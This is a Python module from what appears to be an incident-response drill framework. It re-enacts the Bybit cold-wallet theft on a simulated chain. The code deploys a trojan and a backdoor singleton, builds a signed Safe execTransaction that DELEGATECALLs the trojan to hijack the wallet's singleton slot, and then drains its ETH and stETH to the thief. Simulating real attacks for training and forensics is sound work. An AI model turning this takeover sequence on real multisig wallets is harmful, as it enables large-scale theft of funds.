"""The theft: the victim's Safe taken over by a signed DELEGATECALL to the thief's trojan, then drained."""

from __future__ import annotations

from hotpursuit.drill import cold_wallet as safe
from hotpursuit.drill.booking import DrillBooking
from hotpursuit.drill.ledger import ETH, Move
from hotpursuit.drill.scenario import STOLEN_STETH
from hotpursuit.errors import DrillError


class SafeTakeover(DrillBooking):
    """The Bybit takeover of the victim's cold wallet."""

    def take_over_the_safe(self) -> None:
        """Bybit, 2025-02-21: the signers sign what they think is a routine transaction; it DELEGATECALLs
        the thief's trojan, which writes the thief's backdoor into the Safe's singleton slot; the
        thief then sweeps the ETH and the stETH out in one call (the theft transaction)."""
        trojan = self.deploy("deploy trojan", self.thief, safe.TROJAN.deploy_data(), gas=1_000_000)
        backdoor = self.deploy("deploy backdoor singleton", self.thief, safe.BACKDOOR.deploy_data(self.thief),
                               gas=1_000_000)
        self.wave([trojan, backdoor])
        t_addr, b_addr = (t.receipt["contractAddress"].lower() for t in (trojan, backdoor))
        before = safe.singleton_of(self.client, self.victim)
        signed = safe.malicious_exec_data(self.client, self.victim, t_addr, b_addr,
                                          {s: self._secrets[s] for s in self.signers})
        exec_tx = self.call("Safe execTransaction (DELEGATECALL to the trojan)", self.signers[0], self.victim, signed)
        self.wave([exec_tx])
        after = safe.singleton_of(self.client, self.victim)
        if after != b_addr:
            raise DrillError(f"the Safe's singleton is {after}, not the backdoor {b_addr}, after the takeover")
        steth = self.venues.staking_token
        eth = self.avail[(self.victim, ETH)]
        theft = self.call("theft: cold wallet drained", self.thief, self.victim,
                          safe.BACKDOOR.call_data("sweep", self.thief, [steth]), gas=500_000,
                          spends={(self.victim, ETH): eth, (self.victim, steth): STOLEN_STETH},
                          eth_out=[Move(0, "internal", self.victim, self.thief, ETH, eth)])
        self.wave([theft])
        self.theft_tx = theft.tx_hash
        self.takeover = {"trojan": t_addr, "backdoor": b_addr, "singleton_before": before, "singleton_after": after,
                         "exec_tx": exec_tx.tx_hash, "sweep_tx": theft.tx_hash, "operation": "DELEGATECALL"}
